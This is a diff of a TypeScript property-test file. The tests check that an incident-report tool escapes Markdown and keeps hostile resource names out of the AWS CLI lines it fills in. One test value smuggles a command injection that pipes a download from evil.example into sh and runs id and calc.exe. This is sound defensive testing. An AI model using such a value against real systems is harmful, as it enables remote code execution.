@@ -2,18 +2,17 @@
 // (instance Name tags, key pair and user names, notice text). Property tests with generated
 // hostile values: the report's Markdown structure is the same as with harmless values (no new
 // heading, link, image, HTML or list comes from a value), and each value filled into a CLI line
-// comes back from a POSIX shell as exactly one argument, itself.
+// is a plain word for bash, PowerShell and cmd.exe alike, or is withheld (placeholder + reason).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { execFileSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import fc from 'fast-check';
 // @ts-expect-error markdown-it ships no types (installed with the packaging tools); used here only as a reference parser
 import MarkdownIt from 'markdown-it';
 import { incidentReport } from '../../src/core/incidents/report';
-import { fillCli, parseRunbooks } from '../../src/core/incidents/runbooks';
-import { mdCode, mdText, shellQuote } from '../../src/core/incidents/escape';
+import { fillCli, fillCliChecked, parseRunbooks } from '../../src/core/incidents/runbooks';
+import { isCliSafe, mdCode, mdText, shellQuote } from '../../src/core/incidents/escape';
 import type { Incident } from '../../src/core/incidents/types';
 
 const RUNBOOKS = parseRunbooks(readFileSync(path.join(__dirname, '..', '..', 'media', 'runbooks', 'incidents.json'), 'utf8'));
@@ -106,34 +105,58 @@ test('mdText and mdCode: values render back as exactly their text (property)', (
     fc.property(fc.string({ unit: fc.constantFrom(...'ab []()<>!#`*_|:/.@\\-+1&;~'.split('')), maxLength: 40 }), (s) => {
       const want = s.replace(/^\s+/, '');
       assert.equal(unhtml(render(mdText(s))), want, mdText(s));
-      if (s.trim() && !/^[ `]|[ `]$/.test(s)) assert.equal(unhtml(render(mdCode(s))), `<code>${s.replace(/\|/g, '\\|')}</code>`);
+      if (s.trim() && !/^[ `]|[ `]$/.test(s)) assert.equal(unhtml(render(mdCode(s))), `<code>${s}</code>`);
     }),
     { seed: 7, numRuns: 300 },
   );
 });
 
-/** Splits a command line the way a POSIX shell does, without running it. */
-function shellWords(line: string): string[] {
-  const out = execFileSync('sh', ['-c', `set -- ${line}\nprintf '%s\\0' "$@"`], { encoding: 'utf8' });
-  return out.split('\0').slice(0, -1);
-}
+/** What cmd.exe, PowerShell or a POSIX shell treats specially anywhere in a word, or at its start. */
+const SHELL_SPECIAL = /[^A-Za-z0-9._:/+=@ -]/;
 
-test('runbook CLI lines: every filled value is one shell word that gives back the value exactly (property)', () => {
+test('runbook CLI lines: a filled value is safe in bash, PowerShell and cmd.exe, else withheld with a reason (property)', () => {
   const cli = 'aws ec2 describe-instances --filters Name=key-name,Values={keypair} --region {region} --instance-ids {instance}';
-  const name = fc.string({ unit: fc.oneof(fc.constantFrom(...";|$&`'\"\\ \n\t*?[]{}()<>#~!=%^".split('')), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter((c) => c !== '\0')), minLength: 1, maxLength: 24 });
+  const name = fc.oneof(
+    fc.string({ unit: fc.oneof(fc.constantFrom(...";|$&`'\"\\ \n\t*?[]{}()<>#~!=%^,@-.:/+\u2033\uff02\u00a0".split('')), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), minLength: 1, maxLength: 24 }),
+    fc.stringMatching(/^[A-Za-z0-9._:/+=@-]{1,20}$/),
+  );
   fc.assert(
     fc.property(name, name, name, (keypair, region, instance) => {
-      const line = fillCli(cli, { resources: [{ kind: 'key-pair', id: keypair, region }, { kind: 'instance', id: instance, region }] });
-      assert.deepEqual(shellWords(line), ['aws', 'ec2', 'describe-instances', '--filters', `Name=key-name,Values=${keypair}`, '--region', region, '--instance-ids', instance]);
+      const { line, withheld } = fillCliChecked(cli, { resources: [{ kind: 'key-pair', id: keypair, region }, { kind: 'instance', id: instance, region }] });
+      // Invariant: the line holds the template's own characters plus values that are plain
+      // words for every shell. Take the template's words out; what is left is filled values.
+      const filled = line.replace(/^aws ec2 describe-instances --filters Name=key-name,Values=(.*) --region (.*) --instance-ids (.*)$/s, '$1\u0001$2\u0001$3').split('\u0001');
+      assert.equal(filled.length, 3, line);
+      for (const [v, got, word] of [[keypair, filled[0], 'KEY_PAIR_NAME'], [region, filled[1], 'REGION'], [instance, filled[2], 'INSTANCE_ID']] as const) {
+        if (isCliSafe(v)) assert.equal(got, v);
+        else {
+          assert.equal(got, word);
+          assert.ok(withheld.some((w) => w.placeholder === word && w.value === v && w.reason.length > 10), `${word} withheld with a reason`);
+        }
+        assert.doesNotMatch(got as string, SHELL_SPECIAL);
+        assert.match(got as string, /^[A-Za-z0-9]/, 'no value starts like an option, a splat or an expansion');
+      }
     }),
-    { seed: 3, numRuns: 150 },
+    { seed: 3, numRuns: 400 },
   );
-  // The runbooks' own lines, with a key pair named like the review's
-  const evil = "relay'; curl https://evil.example/x | sh; echo '$(id)`id`";
+  // The runbooks' own lines, with a key pair named like the review's: nothing of it reaches the line.
+  const evil = "relay'; curl https://evil.example/x | sh; echo '$(id)`id`&calc.exe&%PATH%";
   for (const rb of Object.values(RUNBOOKS))
     for (const p of rb.phases)
-      for (const s of p.steps)
-        if (s.cli?.includes('{keypair}')) assert.ok(shellWords(fillCli(s.cli, { resources: [{ kind: 'key-pair', id: evil, region: 'us-east-1' }] })).some((w) => w === evil || w.endsWith(`=${evil}`)), s.cli);
+      for (const s of p.steps) {
+        if (!s.cli) continue;
+        const { line, withheld } = fillCliChecked(s.cli, { resources: [{ kind: 'key-pair', id: evil, region: 'us-east-1' }, { kind: 'user', id: 'a"b&c' }, { kind: 'instance', id: 'i-0abc;calc', region: 'us-east-1' }] });
+        assert.ok(!line.includes('evil') && !line.includes('calc') && !line.includes('a"b'), line);
+        if (s.cli.includes('{keypair}')) assert.ok(line.includes('KEY_PAIR_NAME') && withheld.some((w) => w.placeholder === 'KEY_PAIR_NAME'), s.cli);
+      }
+  // Ordinary values are filled in as they are.
+  assert.equal(fillCli('aws iam update-access-key --user-name {user} --access-key-id {key}', { resources: [{ kind: 'access-key', id: 'AKIAIOSFODNN7EXAMPLE', user: 'deploy.bot-ci@corp' }] }), 'aws iam update-access-key --user-name deploy.bot-ci@corp --access-key-id AKIAIOSFODNN7EXAMPLE');
   assert.equal(shellQuote('i-0abc'), 'i-0abc');
   assert.throws(() => shellQuote('a\0b'));
+});
+
+test('mdCode shows a | as itself (no backslash the value does not have)', () => {
+  const render = (s: string): string => (md as unknown as { renderInline(s: string): string }).renderInline(s);
+  assert.equal(render(mdCode('a|b')), '<code>a|b</code>');
+  assert.equal(mdCode('a|b'), '`a|b`');
 });
